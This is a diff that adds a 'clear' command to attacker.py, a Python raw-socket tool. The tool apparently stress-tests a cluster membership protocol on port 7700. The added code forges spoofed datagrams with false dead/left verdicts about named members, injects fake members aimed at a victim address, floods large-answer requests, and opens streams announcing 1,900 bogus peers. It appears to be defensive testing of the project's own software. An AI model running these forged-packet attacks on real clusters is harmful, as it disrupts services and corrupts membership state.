@@ -5,6 +5,9 @@
     attacker.py replay FILE MODE RATE [TARGET]     every recorded datagram once, changed as MODE says
     attacker.py storm FILE TARGET RATE SECONDS     garbage of all kinds at one member, as fast as RATE a second
     attacker.py streams TARGET COUNT SECONDS       COUNT connections that say nothing, or little and slowly
+    attacker.py clear CLUSTER TARGET RATE SECONDS MEMBER...
+                                                   what members without a key are attacked with, well formed and in clear: lies
+                                                   about the MEMBERs, questions with long answers, orders, whole streams
 
 Needs root and Linux: packets are read by AF_PACKET and written by SOCK_RAW on eth0, beside the members of port 7700. Each
 command prints one line of JSON: how many packets it took from, or sent to the network, and what members sent to its own
@@ -276,7 +279,105 @@ def streams(target, count, seconds):
     return {"opened": opened, "refused": refused, "saidBytes": said, "receivedBytes": received}
 
 
-COMMANDS = {"record": record, "replay": replay, "storm": storm, "streams": streams}
+def crc32c(data):
+    crc = 0xFFFFFFFF
+    for byte in data:
+        crc ^= byte
+        for _ in range(8):
+            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
+    return crc ^ 0xFFFFFFFF
+
+
+def varint(number):
+    out = b""
+    while number > 127:
+        out += bytes([number & 127 | 128])
+        number >>= 7
+    return out + bytes([number])
+
+
+def message(kind, *fields):
+    whole = b"".join(fields)
+    return bytes([kind]) + varint(len(whole)) + whole
+
+
+def name(text):
+    return bytes([len(text)]) + text.encode()
+
+
+def alive(member, generation, incarnation, address):
+    return message(
+        0x10, name(member), struct.pack("!Q", generation), varint(incarnation), b"\x04" + varint(1000), b"\x01", address
+    )
+
+
+def lies(members, me, there):
+    """Bodies of datagrams."""
+    now = int(time.time() * 1000) << 16
+    latest = 1 << 63
+    generations = (now, now + (1 << 36), 2**64 - 1, 2**64 - 2)
+    here, victim = me + struct.pack("!H", PORT), there[:3] + b"\xc8" + struct.pack("!H", PORT)
+    for member in members:
+        for generation in generations:
+            for incarnation in (1, latest - 1):
+                for status in (1, 2, 3):  # suspect, dead, left
+                    verdict = name(member), struct.pack("!Q", generation), varint(incarnation)
+                    yield message(0x11, *verdict, bytes([status]), b"\x01", b"\x00")
+            yield alive(member, generation, 1, here)
+            delta = varint(0), varint(latest - 1), b"\x01", b"\x00"
+            yield message(0x12, name(member), struct.pack("!Q", generation), *delta)
+    for number in range(30):
+        yield alive("fake%d" % number, now, 1, victim)
+    yield b"".join(message(0x01, struct.pack("!HIQ", i, 0, 0)) for i in range(70))
+    ask = struct.pack("!HI", 1, 0), b"\x04" + victim, varint(2**31 - 1)
+    yield b"".join(message(0x04, *ask) for _ in range(50))
+    yield b"".join(message(0x23, struct.pack("!H", i), b"\x00") for i in range(60))
+    yield b"".join(message(0x07, struct.pack("!H", i), name("fake0"), struct.pack("!Q", now)) for i in range(60))
+
+
+def sealed_in_clear(cluster, body):
+    return struct.pack("!I", crc32c(cluster.encode() + body)) + body
+
+
+def frame(flag, cluster, body):
+    sealed = sealed_in_clear("" if flag == 0 else cluster, body)
+    return struct.pack("!IB", len(sealed) + 1, flag) + sealed
+
+
+def speak(cluster, target, member):
+    """A stream for each purpose, which says hello as a member and then tells of 1,900 others."""
+    now = int(time.time() * 1000) << 16
+    live = []
+    for purpose in range(8):
+        hello = message(
+            0x40, b"\x01\x01", varint(len(cluster)) + cluster.encode(), name(member), struct.pack("!Q", now), bytes([purpose])
+        )
+        others = b"".join(alive("other%d" % i, now, 1, socket.inet_aton(target) + b"\x1e\x14") for i in range(200))
+        stream = socket.create_connection((target, PORT), timeout=5)
+        try:
+            stream.sendall(frame(0, cluster, hello) + 9 * frame(1, cluster, others))
+        except OSError:
+            pass
+        live.append(stream)
+    return live
+
+
+def clear(cluster, target, rate, seconds, *members):
+    there = socket.inet_aton(target)
+    sources = [own_address(), there[:3] + b"\xc8", there[:3] + b"\x02"]
+    bodies = [sealed_in_clear(cluster, body) for body in lies(members, own_address(), there)]
+    answers, forger, began = Answers(), Forger(), time.monotonic()
+    answers.start()
+    live = speak(cluster, target, members[0])
+    packets = [Forger.packet(source, PORT, there, PORT, body) for body in bodies for source in sources]
+    for packet in paced((packets[i % len(packets)] for i in range(int(float(rate) * float(seconds)))), float(rate)):
+        forger.send(packet)
+    for stream in live:
+        stream.close()
+    return result(forger, answers, began)
+
+
+COMMANDS = {"clear": clear, "record": record, "replay": replay, "storm": storm, "streams": streams}
 
 if __name__ == "__main__":
     if len(sys.argv) < 3 or sys.argv[1] not in COMMANDS:
